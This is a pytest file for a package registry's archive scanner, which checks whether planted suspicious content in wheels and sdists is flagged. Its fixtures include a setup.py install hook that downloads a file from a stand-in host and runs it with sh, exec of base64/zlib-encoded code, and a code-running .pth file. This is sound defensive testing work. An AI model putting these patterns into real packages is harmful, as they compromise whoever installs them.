"""Suspicious-content rules on archives made by the real producers (zipfile, tarfile and a
setuptools build), bounded, never executing anything."""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from _dists import make_sdist, make_wheel
from _packages import build_project
from registry_core.errors import InvalidArgumentError
from registry_core.ml._content import scan_archive

_PKG = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


def _rules(data: bytes, filename: str) -> set[str]:
    return {f.rule for f in scan_archive(io.BytesIO(data), filename)}


def test_real_setuptools_build_is_clean(tmp_path: Path) -> None:
    built = build_project(tmp_path, "Clean_Demo", "1.0", payload_kb=4)
    assert _rules(built.wheel.read_bytes(), built.wheel.name) == set()
    assert _rules(built.sdist.read_bytes(), built.sdist.name) == set()


def test_encoded_exec_in_a_module() -> None:
    hidden = base64.b64encode(zlib.compress(b"print('pwned')")).decode()
    src = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{hidden}')))\n"
    wheel = make_wheel("demo", "1.0", members={"demo/_x.py": src.encode()})
    assert _rules(wheel, "demo-1.0-py3-none-any.whl") == {"exec-of-encoded-data"}


def test_pth_that_imports() -> None:
    wheel = make_wheel("demo", "1.0", members={"demo-init.pth": b"import demo._x\n"})
    assert "pth-executes-code" in _rules(wheel, "demo-1.0-py3-none-any.whl")
    plain = make_wheel("demo", "1.0", members={"demo.pth": b"./lib\n"})  # a path entry only
    assert _rules(plain, "demo-1.0-py3-none-any.whl") == set()


def test_binary_in_pure_wheel_only() -> None:
    wheel = make_wheel("demo", "1.0", members={"demo/helper.bin": b"\x7fELF\x02\x01" + b"\0" * 64})
    assert _rules(wheel, "demo-1.0-py3-none-any.whl") == {"binary-in-pure-package"}
    assert _rules(wheel, "demo-1.0-cp312-cp312-manylinux_2_17_x86_64.whl") == set()


def test_setup_py_rules() -> None:
    setup = (
        b"import os, subprocess, urllib.request\n"
        b"from setuptools import setup\nfrom setuptools.command.install import install\n"
        b"class Post(install):\n    def run(self):\n"
        b"        urllib.request.urlretrieve('http://example.invalid/p', '/tmp/p')\n"
        b"        subprocess.call(['sh', '/tmp/p'])\n"
        b"setup(cmdclass={'install': Post})\n"
    )
    sdist = make_sdist("demo-1.0", pkg_info=_PKG, members={"demo-1.0/setup.py": setup})
    assert _rules(sdist, "demo-1.0.tar.gz") == {
        "setup-network-call",
        "setup-runs-commands",
        "install-hook",
    }


def test_bounds_and_bad_archives() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(30):
            zf.writestr(f"demo/m{i}.py", b"x = 1\n")
    found = scan_archive(io.BytesIO(buf.getvalue()), "demo-1.0-py3-none-any.whl", max_members=10)
    assert [f.rule for f in found] == ["too-many-members"]
    # a member that inflates far past the budget is read only up to it
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("demo/big.py", b"#" * (8 << 20))
    found = scan_archive(
        io.BytesIO(bomb.getvalue()),
        "demo-1.0-py3-none-any.whl",
        max_member_bytes=1 << 16,
        max_total_bytes=1 << 16,
    )
    assert [f.rule for f in found] == ["scan-budget"]
    assert [f.rule for f in scan_archive(io.BytesIO(b"not a zip"), "x-1.0.tar.gz")] == [
        "unreadable"
    ]
    assert scan_archive(io.BytesIO(b""), "x-1.0.exe") == []
    with pytest.raises(InvalidArgumentError):
        scan_archive(io.BytesIO(b""), "x.whl", max_members=0)


@settings(max_examples=40)
@given(st.binary(max_size=2048), st.sampled_from(["demo-1.0.tar.gz", "demo-1.0-py3-none-any.whl"]))
def test_arbitrary_bytes_never_raise(data: bytes, filename: str) -> None:
    for f in scan_archive(io.BytesIO(data), filename):
        assert f.severity in ("low", "medium", "high")


@settings(max_examples=30)
@given(st.binary(min_size=400, max_size=1200))
def test_encoded_blob_round_trip(payload: bytes) -> None:
    """Whatever is hidden, a long base64 run is flagged (and the flag survives tar packing)."""
    text = b"BLOB = '" + base64.b64encode(payload) + b"'\n"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("demo-1.0/demo/blob.py")
        info.size = len(text)
        tf.addfile(info, io.BytesIO(text))
    assert "encoded-blob" in _rules(buf.getvalue(), "demo-1.0.tar.gz")  # 400 B -> 536 chars
